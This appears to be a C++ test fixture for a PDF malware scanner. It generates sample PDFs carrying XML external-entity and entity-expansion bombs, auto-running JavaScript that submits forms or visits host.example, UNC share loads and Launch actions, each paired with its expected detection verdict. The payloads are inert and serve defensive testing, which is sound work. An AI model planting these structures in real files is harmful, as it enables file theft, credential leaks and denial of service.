// Attacks in forms, metadata, media and script, and numbers that are none.
#include "tests/support/document_kit.h"

namespace lazaret::testing_support {
namespace {

using inspect::FindingCode;
using std::string;

class Room {
 public:
  explicit Room(std::vector<ExpectedDocument>& all) : all_(all) {}
  void add(string name, string bytes, Outcome outcome, std::vector<FindingCode> codes) {
    all_.push_back({std::move(name), std::move(bytes), outcome, std::move(codes)});
  }

 private:
  std::vector<ExpectedDocument>& all_;
};

string with_xfa(const string& text) {
  return one_page({.catalog = "/AcroForm << /Fields [] /XFA 5 0 R >>", .more = {flate_body("", text)}});
}

string with_xmp(const string& text) {
  return one_page({.catalog = "/Metadata 5 0 R", .more = {stream_body("/Type /Metadata /Subtype /XML", text)}});
}

string utf16_bytes(std::string_view ascii) {
  string bytes = "\xFF\xFE";
  for (const char c : ascii)
    bytes.append(1, c).append(1, '\0');
  return bytes;
}

void add_xml(Room& room) {
  constexpr const char* kOutside = "<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"http://host.example/a.dtd\"><a/>";
  constexpr const char* kEntity = "<!DOCTYPE a [ <!ENTITY b SYSTEM \"file:///etc/inert\"> ]><a>&b;</a>";
  room.add("XFA with an external DTD", with_xfa(kOutside), Outcome::kMalicious, {FindingCode::kExternalEntity});
  room.add("XFA with an external entity", with_xfa(kEntity), Outcome::kMalicious, {FindingCode::kExternalEntity});
  room.add("XFA with an external entity, in parts",
           one_page({.catalog = "/AcroForm << /Fields [] /XFA [(preamble) 5 0 R (config) 6 0 R] >>",
                     .more = {flate_body("", "<!DOCTYPE a [ <!ENTITY b SYS"),
                              flate_body("", "TEM \"file:///etc/inert\"> ]><a>&b;</a>")}}),
           Outcome::kMalicious, {FindingCode::kExternalEntity});
  room.add("metadata with an external DTD", with_xmp(kOutside), Outcome::kMalicious, {FindingCode::kExternalEntity});
  room.add("metadata with an external entity", with_xmp(kEntity), Outcome::kMalicious, {FindingCode::kExternalEntity});
  room.add("damaged metadata with an external entity", with_xmp("<broken" + string(kEntity)), Outcome::kMalicious,
           {FindingCode::kExternalEntity});
  room.add("attached XML with an external DTD", with_attachment("cda.xml", kOutside), Outcome::kMalicious,
           {FindingCode::kExternalEntity});
  room.add("attached XML with an external entity", with_attachment("notes.txt", kEntity), Outcome::kMalicious,
           {FindingCode::kExternalEntity});
  room.add("attached XML with an external entity, in UTF-16", with_attachment("cda.xml", utf16_bytes(kEntity)),
           Outcome::kMalicious, {FindingCode::kExternalEntity});
  room.add("attached XML with an external entity for parts of its DTD",
           with_attachment("cda.xml", "<!DOCTYPE a [ <!ENTITY % b SYSTEM \"http://host.example/b\"> %b; ]><a/>"),
           Outcome::kMalicious, {FindingCode::kExternalEntity});
  room.add("attached picture of XML with an external entity",
           with_attachment("a.svg",
                           "<?xml version='1.0'?><!DOCTYPE svg [ <!ENTITY b SYSTEM 'file:///inert'> ]>"
                           "<svg xmlns='http://www.w3.org/2000/svg'>&b;</svg>"),
           Outcome::kMalicious, {FindingCode::kExternalEntity});
  room.add("damaged attached XML with an external entity", with_attachment("cda.xml", "<broken" + string(kEntity)),
           Outcome::kMalicious, {FindingCode::kExternalEntity});
  room.add("attached picture of XML",
           with_attachment("a.xml", "<?xml version='1.0'?><p:svg xmlns:p='http://www.w3.org/2000/svg'/>"),
           Outcome::kSuspicious, {FindingCode::kMarkupAttachment});
  string laughs = "<!DOCTYPE a [ <!ENTITY a0 \"aaaaaaaaaaaaaaaaaaaa\">";
  for (int i = 1; i < 9; ++i) {
    laughs += "<!ENTITY a" + std::to_string(i) + " \"";
    for (int k = 0; k < 10; ++k)
      laughs += "&a" + std::to_string(i - 1) + ";";
    laughs += "\">";
  }
  room.add("XFA whose entities unfold", with_xfa(laughs + " ]><a>&a8;</a>"), Outcome::kBomb,
           {FindingCode::kEntityExpansion});
  room.add("attached XML whose entities unfold", with_attachment("cda.xml", laughs + " ]><a>&a8;</a>"), Outcome::kBomb,
           {FindingCode::kEntityExpansion});
  room.add("XFA with script", with_xfa("<xdp><event><script>inert</script></event></xdp>"), Outcome::kActive,
           {FindingCode::kXfa, FindingCode::kJavaScript});
  room.add("XFA that is sent", with_xfa("<xdp><submit target=\"https://host.example/\"/></xdp>"), Outcome::kActive,
           {FindingCode::kXfa, FindingCode::kSubmitForm});
  room.add("XFA with a style sheet on a share",
           with_xfa(R"(<?xml-stylesheet type="text/xsl" href="\\host.example\share\a.xsl"?><xdp/>)"),
           Outcome::kMalicious, {FindingCode::kAutoRunUnc});
  room.add("XFA with a style sheet on the network",
           with_xfa(R"(<?xml-stylesheet type="text/xsl" href="http://host.example/a.xsl"?><xdp/>)"),
           Outcome::kSuspicious, {FindingCode::kAutoRunUri});
}

void add_numbers(Room& room) {
  room.add("code in a font matrix",
           one_page({.page = "/Resources << /Font << /F1 5 0 R >> >>",
                     .more = {"<< /Type /Font /Subtype /Type1 /FontMatrix [1 0 0 1 0 (0\\); inert\\(\\))] >>"}}),
           Outcome::kMalicious, {FindingCode::kKnownExploit});
  room.add("code in the range of a function",
           one_page({.more = {stream_body("/FunctionType 4 /Domain [0 1] /Range [0 (inert)]", "{ }")}}),
           Outcome::kMalicious, {FindingCode::kKnownExploit});
  room.add("string in a calculator",
           one_page({.more = {flate_body("/FunctionType 4 /Domain [0 1] /Range [0 1]", "{ (inert) }")}}),
           Outcome::kMalicious, {FindingCode::kKnownExploit});
}

void add_media(Room& room) {
  const string clip = "<< /S /Rendition /OP 0 /AN 3 0 R /R << /S /MR /C << /S /MCD /D ";
  room.add("rendition from a share, by itself",
           with_open_action(clip + "<< /Type /Filespec /F (\\\\\\\\host.example\\\\a.mp4) >> >> >> >>"),
           Outcome::kMalicious, {FindingCode::kRichMedia, FindingCode::kAutoRunUnc});
  room.add("rendition from the network, by itself",
           with_page_action(clip + "<< /Type /Filespec /FS /URL /F (http://host.example/a.mp4) >> >> >> >>"),
           Outcome::kSuspicious, {FindingCode::kAutoRunUri});
  room.add("movie", one_page({.page = "/Annots [ << /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >> ]"}),
           Outcome::kActive, {FindingCode::kRichMedia});
  room.add(
      "movie from a share",
      one_page({.page = "/Annots [ << /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (//host.example/a.avi) >> >> ]"}),
      Outcome::kSuspicious, {FindingCode::kUncPath});
  room.add("three dimensions",
           one_page({.page = "/Annots [ << /Subtype /3D /Rect [0 0 9 9] /3DD 5 0 R >> ]",
                     .more = {flate_body("/Type /3D /Subtype /U3D", "inert")}}),
           Outcome::kActive, {FindingCode::kRichMedia});
  room.add("sound", with_link("<< /S /Sound /Sound 5 0 R >>"), Outcome::kActive, {FindingCode::kRichMedia});
}

void add_scripts(Room& room) {
  const auto script = [](const string& text) { return "<< /S /JavaScript /JS (" + text + ") >>"; };
  room.add("script that visits an address by itself",
           with_open_action(script("app.launchURL\\('http://host.example/'\\)")), Outcome::kSuspicious,
           {FindingCode::kAutoRunJavaScript, FindingCode::kAutoRunUri});
  room.add("script that sends a form by itself", with_page_action(script("this.submitForm\\('http://a.example'\\)")),
           Outcome::kSuspicious, {FindingCode::kAutoRunUri});
  room.add("script that opens a share by itself",
           with_open_action(script("this.submitForm\\('\\\\\\\\\\\\\\\\host.example\\\\\\\\a'\\)")),
           Outcome::kMalicious, {FindingCode::kAutoRunUnc});
  room.add("script in a stream that visits an address by itself",
           one_page({.catalog = "/OpenAction << /S /JavaScript /JS 5 0 R >>",
                     .more = {flate_body("", "app.launchURL('http://host.example/')")}}),
           Outcome::kSuspicious, {FindingCode::kAutoRunUri});
  room.add("script that sends a form by a click", with_link(script("this.submitForm\\('http://a.example'\\)")),
           Outcome::kActive, {FindingCode::kJavaScript});
  room.add("script of the document when it closes", one_page({.catalog = "/AA << /WC " + script("inert") + " >>"}),
           Outcome::kActive, {FindingCode::kAutoRunJavaScript});
  room.add("script of a page when it closes", one_page({.page = "/AA << /C " + script("inert") + " >>"}),
           Outcome::kActive, {FindingCode::kAutoRunJavaScript});
  for (const char* trigger : {"PO", "PC", "PV", "PI"}) {
    room.add("script of an annotation by /" + string(trigger),
             one_page({.page = "/Annots [ << /Subtype /Screen /Rect [0 0 9 9] /AA << /" + string(trigger) + " " +
                               script("inert") + " >> >> ]"}),
             Outcome::kActive, {FindingCode::kAutoRunJavaScript});
  }
  room.add("script behind a bookmark",
           one_page({.catalog = "/Outlines << /First 5 0 R /Last 5 0 R /Count 1 >>",
                     .more = {"<< /Title (Results) /A " + script("inert") + " >>"}}),
           Outcome::kActive, {FindingCode::kJavaScript});
}

void add_launches(Room& room) {
  room.add("program started for the Mac", with_link("<< /S /Launch /Mac << /F (inert.app) >> >>"), Outcome::kMalicious,
           {FindingCode::kLaunch});
  room.add("program started by its Unicode name",
           with_open_action("<< /S /Launch /F << /Type /Filespec /UF (inert.exe) >> >>"), Outcome::kMalicious,
           {FindingCode::kLaunch});
  room.add("program started behind a chain",
           with_link("<< /S /URI /URI (https://host.example/) /Next [ << /S /Launch /F (inert.exe) >> ] >>"),
           Outcome::kMalicious, {FindingCode::kLaunch});
  room.add("program started behind a bookmark",
           one_page({.catalog = "/Outlines << /First 5 0 R /Last 5 0 R /Count 1 >>",
                     .more = {"<< /Title (Results) /A << /S /Launch /F (inert.exe) >> >>"}}),
           Outcome::kMalicious, {FindingCode::kLaunch});
  room.add("program started by a field",
           one_page({.catalog = "/AcroForm << /Fields [5 0 R] >>",
                     .page = "/Annots [5 0 R]",
                     .more = {"<< /FT /Tx /T (f) /Subtype /Widget /Rect [0 0 9 9] /AA << /E << /S /Launch /F "
                              "(inert.exe) >> >> >>"}}),
           Outcome::kMalicious, {FindingCode::kLaunch});
  room.add("share whose slashes are doubled twice, opened by itself",
           with_page_action("<< /S /GoToE /F (\\\\\\\\\\\\\\\\host.example\\\\\\\\x) /D [0 /Fit] >>"),
           Outcome::kMalicious, {FindingCode::kAutoRunUnc});
  room.add("data imported from a share, by itself", with_open_action("<< /S /ImportData /F (//host.example/a.fdf) >>"),
           Outcome::kMalicious, {FindingCode::kAutoRunUnc});
  room.add("thread in another file", with_link("<< /S /Thread /F (other.pdf) /D 0 >>"), Outcome::kActive,
           {FindingCode::kGoToRemote});
  room.add("picture at an address",
           one_page({.more = {stream_body("/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 "
                                          "/ColorSpace /DeviceGray /F << /FS /URL /F (http://host.example/a.jpg) >> "
                                          "/FFilter /DCTDecode",
                                          "")}}),
           Outcome::kSuspicious, {FindingCode::kExternalStream, FindingCode::kAutoRunUri});
  room.add("picture on a share",
           one_page({.more = {stream_body("/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 "
                                          "/ColorSpace /DeviceGray /F (\\\\\\\\host.example\\\\a.jpg)",
                                          "")}}),
           Outcome::kMalicious, {FindingCode::kExternalStream, FindingCode::kAutoRunUnc});
}

}  // namespace

void add_form_attacks(std::vector<ExpectedDocument>& all) {
  Room room(all);
  add_xml(room);
  add_numbers(room);
  add_media(room);
  add_scripts(room);
  add_launches(room);
}

}  // namespace lazaret::testing_support
